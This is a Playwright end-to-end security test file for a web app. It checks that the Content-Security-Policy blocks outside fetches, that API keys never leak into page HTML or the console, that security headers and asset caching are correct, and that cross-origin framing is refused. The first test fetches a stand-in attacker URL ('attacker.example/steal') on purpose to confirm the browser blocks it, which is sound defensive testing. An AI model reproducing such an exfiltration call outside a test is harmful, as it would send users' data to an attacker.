import { APP, COLLEGES_KEY, SERVER_SWAP_KEY, UPSTREAM } from './environment.ts';
import { expect, test } from './fixtures.ts';
import { topLevelPages } from './routes.ts';

const routes = topLevelPages.map((page) => page.path);

test('the Content-Security-Policy blocks a fetch to an origin that is not configured', async ({ page, pageProblems }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Overview' })).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(`${event.effectiveDirective} ${event.blockedURI}`), { once: true }),
    );
    const fetched = await fetch('https://attacker.example/steal').then(
      () => 'fetched',
      (error: Error) => `blocked: ${error.name}`,
    );
    return { fetched, violation: await violation };
  });
  expect(outcome).toEqual({ fetched: 'blocked: TypeError', violation: 'connect-src https://attacker.example/steal' });
  // This test provoked the violation on purpose; the fixture must not count it.
  pageProblems.length = 0;
});

test('keys never appear in the app URL, the page text or the console', async ({ page }) => {
  test.setTimeout(90_000);
  const consoleText: string[] = [];
  page.on('console', (message) => consoleText.push(message.text()));
  for (const route of routes) {
    await page.goto(route);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.waitForLoadState('networkidle');
    for (const summary of await page.getByText(/^Inspect requests/).all()) await summary.click();
    const html = await page.content();
    expect(html, `page HTML of ${route}`).not.toContain(COLLEGES_KEY);
    expect(html, `page HTML of ${route}`).not.toContain(SERVER_SWAP_KEY);
    expect(page.url()).not.toContain(COLLEGES_KEY);
  }
  const leaked = consoleText.filter((line) => line.includes(COLLEGES_KEY) || line.includes(SERVER_SWAP_KEY));
  expect(leaked).toEqual([]);
});

test('the server sends the security headers on every page and caches only hashed assets', async ({ request }) => {
  const html = await request.get('/swap');
  expect(html.headers()).toMatchObject({
    'cross-origin-opener-policy': 'same-origin',
    'referrer-policy': 'no-referrer',
    'x-content-type-options': 'nosniff',
    'cache-control': 'no-cache',
  });
  // The header carries the page's own policy plus what a <meta> cannot: frame-ancestors and where reports go.
  const csp = html.headers()['content-security-policy']!;
  const headerOnly = "; frame-ancestors 'none'; report-uri /csp-report; report-to csp-endpoint";
  expect(csp).toMatch(
    /^default-src 'self';.*; require-trusted-types-for 'script'; trusted-types [^;]+; frame-ancestors 'none'; report-uri \/csp-report; report-to csp-endpoint$/,
  );
  expect(html.headers()['reporting-endpoints']).toBe('csp-endpoint="/csp-report"');
  expect(await html.text()).toContain(csp.replace(headerOnly, '').replaceAll("'", '&#39;'));
  expect(html.headers()['permissions-policy']).toMatch(/(^|, )camera=\(\)/);
  expect(html.headers()['permissions-policy']).toContain('clipboard-write=(self)');
  expect(html.headers()['strict-transport-security']).toBeUndefined();

  const script = /<script type="module" crossorigin src="(\/assets\/[^"]+\.js)"/.exec(await html.text())?.[1];
  expect(script).toBeTruthy();
  const asset = await request.get(script!, { headers: { 'Accept-Encoding': 'br' } });
  expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
  expect(asset.headers()['content-encoding']).toBe('br');
  expect(asset.headers()['x-content-type-options']).toBe('nosniff');
  expect((await request.get('/server-config.json')).status()).toBe(404);
  expect(await (await request.get('/healthz')).json()).toEqual({ ok: true });
});

test('another site cannot frame the app, and the browser accepts every Permissions-Policy feature', async ({ page, pageProblems }) => {
  const consoleText: string[] = [];
  page.on('console', (message) => consoleText.push(message.text()));
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Overview' })).toBeVisible();
  expect(consoleText.filter((line) => /Permissions-Policy|Permissions Policy/i.test(line))).toEqual([]);

  await page.goto(`${UPSTREAM}/__control/health`);
  const framed = page.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()));
  await page.evaluate((src) => {
    const frame = document.createElement('iframe');
    frame.src = src;
    document.body.append(frame);
  }, `${APP}/`);
  expect((await framed).text()).toContain("frame-ancestors 'none'");
  await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Overview' })).toHaveCount(0);
  // The refusal above is the point of this test; the fixture must not count it.
  pageProblems.length = 0;
});
